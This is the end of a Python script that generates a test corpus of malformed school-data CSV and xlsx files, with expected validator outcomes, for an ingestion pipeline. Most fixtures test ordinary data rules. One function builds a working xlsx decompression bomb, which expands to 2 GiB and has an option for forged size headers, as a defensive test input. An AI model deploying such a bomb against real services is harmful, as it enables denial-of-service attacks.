        leaver_y11(), outcome(left_roll="Y"), outcome(leaving_reason="transfer"),
        outcome(left_roll="Y", leaving_reason="transfer", destination="education"),
        leaver_y11(year_group="9", met_expected_standard=""),
        leaver_y11(destination="", destination_sustained="Y"),
        outcome(left_roll="Y", leaving_reason="holiday"),
        leaver_y11(destination="university"),
        leaver_y11(year_group="12", destination="neet", destination_sustained="N"),
    ]), loaded(9, [q(3, ["leaving_reason_required"], ["leaving_reason", "left_roll"]),
                   q(4, ["leaving_reason_not_allowed"], ["leaving_reason", "left_roll"]),
                   q(5, ["destination_not_allowed"],
                     ["destination", "leaving_reason", "year_group"]),
                   q(6, ["destination_not_allowed"], ["destination", "year_group"]),
                   q(7, ["destination_sustained_without_destination"],
                     ["destination_sustained", "destination"]),
                   q(8, ["leaving_reason_code"], ["leaving_reason"]),
                   q(9, ["destination_code"], ["destination"])]))
    dup = make_upn(600)
    add("outcomes/duplicate_pupil.csv", csv_bytes("outcomes", [
        outcome(upn=dup), outcome(), outcome(upn=dup, year_group="6"),
        outcome(upn=dup, academic_year=PREV_YEAR, year_group="4"),
        outcome(upn=dup, urn=URN_B),
    ]), loaded(5, [q(2, ["duplicate_pupil"], ["upn"]), q(4, ["duplicate_pupil"], ["upn"])]))
    add("outcomes/required_values.csv", csv_bytes("outcomes", [
        outcome(upn=""), outcome(year_group=""), outcome(sen_provision=""),
        outcome(sessions_possible="", sessions_attended=""), outcome(left_roll=""),
        outcome(),
    ]), loaded(6, [q(2, ["required_value"], ["upn"]),
                   q(3, ["required_value"], ["year_group"]),
                   q(4, ["required_value"], ["sen_provision"]),
                   q(5, ["required_value"], ["sessions_possible", "sessions_attended"]),
                   q(6, ["required_value"], ["left_roll"])]))
    stray = make_upn(700)
    add("outcomes/upn_in_wrong_column.csv", csv_bytes("outcomes", [
        outcome_k(primary_need=stray), outcome(),
        outcome_k(first_identified_year_group=make_upn(701)),
    ]), loaded(3, [q(2, ["primary_need_code"], ["primary_need"]),
                   q(4, ["year_group_code"], ["first_identified_year_group"])]))
    add("outcomes/missing_upn_column.csv",
        csv_bytes("outcomes", [outcome(), outcome()],
                  columns=[c for c in COLUMNS["outcomes"] if c != "upn"]),
        refused("missing_column", "upn"))

    def pupils_xlsx(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("Pupils")
        _sheet_rows(sheet, COLUMNS["outcomes"], [
            outcome(urn=URN_D), outcome_k(urn=URN_D), outcome(urn=URN_D, sen_provision="Q"),
        ])
        # A second sheet a school left in: UPNs of other pupils, never to be read or kept.
        other = workbook.add_worksheet("Class list")
        other.write_row(0, 0, ["upn", "name"])
        for i in range(5):
            other.write_row(i + 1, 0, [make_upn(800 + i), f"Pupil {i}"])

    add("outcomes/mis_export_two_sheets.xlsx", xlsx_bytes(pupils_xlsx),
        loaded(3, [q(4, ["sen_provision_code"], ["sen_provision"])]))
    add("outcomes/utf16_export.csv", "\ufeff".encode("utf-16-le") + csv_bytes(
        "outcomes", [outcome(), outcome()], encoding="utf-16-le"), refused("encoding"))

    # ---------------------------------------------------------------- voice
    add("voice/respondent_id_is_upn.csv", csv_bytes("voice", [
        voice(), voice(respondent_id=make_upn(900)), voice(respondent_id=make_upn(901).lower()),
        voice(respondent_id="R-ok-1"),
    ]), any_of("A lower-case valid UPN as respondent id: whether case is normalised before "
               "the UPN test is not said; the upper-case one must be caught.",
               loaded(4, [q(3, ["respondent_id_is_upn"], ["respondent_id"]),
                          q(4, ["respondent_id_is_upn"], ["respondent_id"])]),
               loaded(4, [q(3, ["respondent_id_is_upn"], ["respondent_id"])])))
    add("voice/respondent_type_code.csv", csv_bytes("voice", [
        voice(), voice(respondent_type="teacher", question_code="P_BEL_1"),
        voice(respondent_type="", question_code="P_BEL_2"),
    ]), loaded(3, [q(3, ["respondent_type_code"], ["respondent_type", "question_code"]),
                   q(4, ["required_value"], ["respondent_type", "question_code"])]))
    add("voice/question_codes.csv", csv_bytes("voice", [
        voice(question_code="P_BEL_9"), voice(question_code="F_CON_1"),
        parent(question_code="P_SAF_1"), parent(question_code="F_CON_2"),
        voice(question_code=""),
    ]), loaded(5, [q(2, ["question_code_unknown"], ["question_code"]),
                   q(3, ["question_wrong_respondent_type"],
                     ["question_code", "respondent_type"]),
                   q(4, ["question_wrong_respondent_type"],
                     ["question_code", "respondent_type"]),
                   q(6, ["required_value"], ["question_code"])]))
    add("voice/response_range.csv", csv_bytes("voice", [
        voice(response="0"), voice(response="6"), voice(response="1"), voice(response="5"),
        voice(response="3.5"), voice(response=""),
    ]), loaded(6, [q(2, ["response_range"], ["response"]), q(3, ["response_range"], ["response"]),
                   q(6, ["integer_format"], ["response"])]))
    add("voice/collected_on.csv", csv_bytes("voice", [
        voice(collected_on="2025-08-31"), voice(collected_on="2026-09-01"),
        voice(collected_on="2026-08-31"), voice(collected_on="31/02/2026"),
        voice(collected_on="2026/03/12"), voice(collected_on=""),
        voice(academic_year=PREV_YEAR, collected_on="2025-07-01"),
    ]), loaded(7, [q(2, ["collected_on_outside_year"], ["collected_on"]),
                   q(3, ["collected_on_outside_year"], ["collected_on"]),
                   q(5, ["date_format"], ["collected_on"]),
                   q(6, ["date_format"], ["collected_on"]),
                   q(7, ["required_value"], ["collected_on"])]))
    add("voice/windows1252_with_extra.csv", csv_bytes("voice", [
        voice(urn=URN_C) | {"Comment": "“Brilliant” \u2013 thanks, café"}, parent(urn=URN_C)],
        columns=[*COLUMNS["voice"], "Comment"], encoding="cp1252"),
        loaded(2, extra_columns=["comment"]))

    def voice_xlsx(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("Responses")
        rows = [voice(urn=URN_D), voice(urn=URN_D, response="7"), parent(urn=URN_D)]
        _sheet_rows(sheet, COLUMNS["voice"], rows)
        date_format = workbook.add_format({"num_format": "dd/mm/yyyy"})
        # Excel stores dates as serial numbers with a date format.
        sheet.write_datetime(1, 8, dt.datetime(2026, 3, 12), date_format)
        sheet.write_formula(3, 7, "=2+1", None, 3)

    add("voice/survey_export.xlsx", xlsx_bytes(voice_xlsx),
        loaded(3, [q(3, ["response_range"], ["response"])]))
    add("voice/missing_question_column.csv", csv_bytes("voice", [voice()], columns=[
        c for c in COLUMNS["voice"] if c != "question_code"]),
        refused("missing_column", "question_code"))
    add("voice/garbage_binary.csv", random.Random(7).randbytes(2048),
        any_of("Random bytes named .csv.", refused("unreadable_file"), refused("encoding")))

    # Distinct bytes: a submission id is the content's sha256, so two identical files
    # would be one submission and muddle the per-file expectations.
    digests: dict[str, str] = {}
    for name, (data, _) in files.items():
        digest = hashlib.sha256(data).hexdigest()
        if digest in digests:
            raise ValueError(f"{name} has the same bytes as {digests[digest]}")
        digests[digest] = name
    return files


# ── inputs too big to commit: built at test time ────────────────────────────────────────

GENERATED: dict[str, dict[str, Any]] = {
    "spend/garbage_one_million_rows.csv": {
        "status": "loaded", "rows_read": 1_000_000, "rows_loaded": 0,
        "rows_quarantined": 1_000_000, "quarantine": [
            {"row": 2, "rules": None, "columns": []},
            {"row": 1_000_001, "rules": None, "columns": []}],
    },
    "outcomes/zip_bomb.xlsx": refused("too_large"),
    "outcomes/zip_bomb_lying_sizes.xlsx": {
        "any_of": [refused("too_large"), refused("unreadable_file")],
        "why": "The zip's headers claim a small sheet; a reader that trusts them stops at "
               "the claimed size and finds the data corrupt, one that counts what it "
               "inflates stops at the limit."},
    "spend/description_one_megabyte.csv": loaded(
        3, [{"row": 3, "rules": ["description_length"], "columns": ["description"]}]),
}
ZIP_BOMB_UPN = make_upn(999)
ZIP_BOMB_EXPANDED_BYTES = 2 * 2**30  # 2 GiB of dense sheet XML from a few MiB of zip


def write_garbage_csv(path: Path, rows: int = 1_000_000, seed: int = 11) -> None:
    """A spend header, then `rows` rows of six fields of seeded printable garbage.

    No field is a number or a code, so every row breaks several rules; fields never hold
    commas, quotes or newlines, so the file is well-formed CSV with exactly `rows` rows.
    """
    rng = random.Random(seed)
    letters = "abcdefghijklmnopqrstuvwxyzQWERTY!#$%&()*;:<>?@[]^_{|}~ "
    pool = ["".join(rng.choice(letters) for _ in range(rng.randrange(1, 12))) for _ in range(997)]
    with path.open("w", encoding="utf-8", newline="") as out:
        out.write(",".join(COLUMNS["spend"]) + "\n")
        n = len(pool)
        block: list[str] = []
        for i in range(rows):
            block.append(",".join(("u" + pool[(i * k) % n]).strip() or "u"
                                  for k in (1, 3, 7, 11, 13, 17)))
            if len(block) == 50_000:
                out.write("\n".join(block) + "\n")
                block.clear()
        if block:
            out.write("\n".join(block) + "\n")


def write_megabyte_description(path: Path) -> None:
    path.write_bytes(csv_bytes("spend", [
        spend(description="short"), spend(description="M" * 2**20),
        spend(urn=URN_B, description="after the long one"),
    ]))


def _zip_entry(name: str, payload_chunks: Sequence[bytes], crc: int, size: int,
               offset: int) -> tuple[bytes, bytes]:
    """Local header + data and the central directory record of one deflated entry."""
    data = b"".join(payload_chunks)
    name_b = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc,
                        len(data), size, len(name_b), 0) + name_b
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc,
                          len(data), size, len(name_b), 0, 0, 0, 0, 0, offset) + name_b
    return local + data, central


def write_zip_bomb(path: Path, expanded: int = ZIP_BOMB_EXPANDED_BYTES,
                   lie: bool = False) -> None:
    """An .xlsx whose sheet1.xml inflates to `expanded` bytes of valid-looking rows.

    Built from a real xlsxwriter workbook: every member is kept except the first sheet,
    replaced by a deflate stream made of one compressed 1 MiB block repeated (a full
    flush resets the compressor, so the block's bytes are identical each time). The CRC
    and sizes are correct, so only a reader that expands it would notice anything;
    with `lie`, the headers instead claim a 64 KiB sheet (checking them is not enough).
    """
    template = xlsx_bytes(lambda wb: _sheet_rows(wb.add_worksheet("Pupils"),
                                                 COLUMNS["outcomes"], [outcome()]))
    import zipfile

    members: list[tuple[str, bytes]] = []
    with zipfile.ZipFile(io.BytesIO(template)) as zf:
        for info in zf.infolist():
            members.append((info.filename, zf.read(info.filename)))

    def cells(values: Sequence[str]) -> bytes:
        return b"".join(b'<c t="inlineStr"><is><t>' + v.encode() + b"</t></is></c>"
                        for v in values)

    # A real header and one good row first, so a reader cannot refuse it for a missing
    # column before it would have expanded the rest; then millions of dense rows.
    good = outcome(upn=ZIP_BOMB_UPN)
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b"<sheetData><row>" + cells(COLUMNS["outcomes"]) + b"</row><row>"
            + cells([good[c] for c in COLUMNS["outcomes"]]) + b"</row>")
    tail = b"</sheetData></worksheet>"
    row = b"<row>" + cells(["111577", "2025/26"]) + b"</row>"
    block = row * (2**20 // len(row))
    repeats = (expanded - len(head) - len(tail)) // len(block)

    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head_z = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block_z = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    block_z2 = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    if block_z != block_z2:
        raise RuntimeError("deflate blocks differ after a full flush; cannot build the bomb")
    tail_z = compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)

    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + repeats * len(block) + len(tail)
    if size >= 2**32:
        raise ValueError("keep the bomb under 4 GiB: no zip64 here")

    out = io.BytesIO()
    centrals: list[bytes] = []
    for name, content in members:
        offset = out.tell()
        if name == "xl/worksheets/sheet1.xml":
            local, central = _zip_entry(name, [head_z, block_z * repeats, tail_z], crc,
                                        1 << 16 if lie else size, offset)
        else:
            z = zlib.compressobj(9, zlib.DEFLATED, -15)
            local, central = _zip_entry(name, [z.compress(content) + z.flush()],
                                        zlib.crc32(content), len(content), offset)
        out.write(local)
        centrals.append(central)
    cd_offset = out.tell()
    for central in centrals:
        out.write(central)
    cd_size = out.tell() - cd_offset
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(centrals), len(centrals),
                          cd_size, cd_offset, 0))
    path.write_bytes(out.getvalue())


def build_generated(landing: Path, with_million: bool = True) -> dict[str, dict[str, Any]]:
    """Write the big inputs into `landing/<source>/`; return their expected outcomes."""
    builders: dict[str, Callable[[Path], None]] = {
        "spend/garbage_one_million_rows.csv": write_garbage_csv,
        "outcomes/zip_bomb.xlsx": write_zip_bomb,
        "outcomes/zip_bomb_lying_sizes.xlsx": lambda p: write_zip_bomb(p, lie=True),
        "spend/description_one_megabyte.csv": write_megabyte_description,
    }
    out: dict[str, dict[str, Any]] = {}
    for name, build in builders.items():
        if not with_million and name.startswith("spend/garbage_one_million"):
            continue
        target = landing / name
        target.parent.mkdir(parents=True, exist_ok=True)
        build(target)
        out[name] = GENERATED[name]
    return out


# ── main ────────────────────────────────────────────────────────────────────────────────

def corpus_files() -> dict[str, bytes]:
    return {name: data for name, (data, _) in build_corpus().items()}


def expected_json() -> str:
    expected = {name: exp for name, (_, exp) in sorted(build_corpus().items())}
    return json.dumps(expected, indent=1, ensure_ascii=False, sort_keys=False) + "\n"


def write(root: Path = CORPUS) -> int:
    for name, data in corpus_files().items():
        target = root / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    (root / "expected.json").write_text(expected_json(), encoding="utf-8")
    return len(corpus_files())


def check(root: Path = CORPUS) -> list[str]:
    """Names whose committed bytes differ from what this script builds."""
    problems = [name for name, data in corpus_files().items()
                if not (root / name).exists() or (root / name).read_bytes() != data]
    if (root / "expected.json").read_text(encoding="utf-8") != expected_json():
        problems.append("expected.json")
    return problems


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--check", action="store_true")
    args = parser.parse_args(argv)
    if args.check:
        problems = check()
        for name in problems:
            print(f"differs: {name}")
        return 1 if problems else 0
    print(f"wrote {write()} corpus files to {CORPUS}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
